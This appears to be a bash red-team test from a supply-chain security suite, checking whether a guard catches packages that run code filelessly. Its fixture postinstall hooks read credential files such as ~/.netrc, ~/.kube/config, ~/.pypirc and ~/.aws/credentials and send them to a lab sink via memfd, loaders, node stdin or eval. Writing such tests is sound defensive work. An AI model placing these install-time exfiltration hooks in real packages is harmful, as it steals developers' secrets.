#!/bin/bash
# R36: nothing on disk names what runs: memfd, a deleted file, the loader, a script on stdin, -e,
# the 32-bit ABI.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R36 'fileless programs'
ways=(memfd memfd-path deleted execveat tmpfile renamed)
for way in "${ways[@]}"; do
	rt_package "exe-$way-x" 1.0.0 - postinstall \
		"./bin/exec $way ./bin/open openat ~/.vault-token $RT_SINK; true" exec open
done
rt_package exe-loader-x 1.0.0 files postinstall \
	'./bin/exec loader /bin/cat ~/.netrc | node post-stdin.js' exec
rt_package exe-stdin-x 1.0.0 - postinstall \
	"echo \"const k=require('./kit.js'); k.post('/x', { x: k.read('.kube/config') })\" | node -"
rt_package exe-eval-x 1.0.0 - postinstall \
	"node -e \"const k=require('./kit.js'); k.post('/x', { x: k.read('.pypirc') })\""
ways+=(loader stdin eval)
if [ "$(uname -m)" = x86_64 ]; then
	rt_package exe-int80-x 1.0.0 - postinstall \
		"./bin/open int80 ~/.aws/credentials $RT_SINK; true" open
	ways+=(int80)
fi

rt_control
rt_leaked .vault-token .netrc .kube/config .pypirc
rt_is 'ways that worked' "$(lab_sink web connections)" "${#ways[@]}"

if rt_guarded; then
	rt_stopped
	for way in "${ways[@]}"; do
		rt_accused "exe-$way-x" '^(secrets|escape|engine-unresolved)$'
	done
fi
rt_end
